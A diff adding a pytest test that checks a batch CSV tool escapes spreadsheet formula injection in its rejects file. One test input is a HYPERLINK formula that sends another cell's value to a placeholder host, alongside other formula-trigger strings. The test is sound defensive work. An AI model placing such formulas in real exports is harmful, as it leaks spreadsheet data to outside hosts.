@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import functools
 import json
 import shutil
@@ -559,3 +560,18 @@ def test_a_workbook_says_beside_its_data_what_people_look_for(rulebook, tmp_path
     called = {name: each.title.to(lang) for shelf in shelves for name, each in shelf.items()}
     assert [(name, title) for _, name, title in listed] == [(name, called[name]) for _, name, _ in listed]
     assert {name for _, name, _ in listed} == met
+
+
+@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://e.example/?"&B2)', "+1", "-x", "@SUM(1)", "'=1"])
+def test_no_cell_of_rejects_is_a_formula(tmp_path, text):
+    """Nor a reason, which begins with the value that it rejects; ``--raw`` leaves all as it is."""
+    row = {"id": "f", "kind": "firm", "economy": "TWN", "employees": text, "sector": text}
+    with (tmp_path / "in.csv").open("w", newline="") as file:
+        writer = csv.DictWriter(file, [*row])
+        writer.writeheader()
+        writer.writerows([row, {**row, "id": text}])
+    for more in ([], ["--raw"]):
+        run("batch", tmp_path / "in.csv", "-o", tmp_path / "out.csv", "--quiet", "--overwrite", *more)
+        told = [cell for line in table(tmp_path / "out.csv.rejects.csv") for cell in line.values()]
+        assert any(cell.startswith(("=", "+", "-", "@")) for cell in told) == bool(more) or text == "'=1"
+        assert any(text[:9] in cell for cell in told)
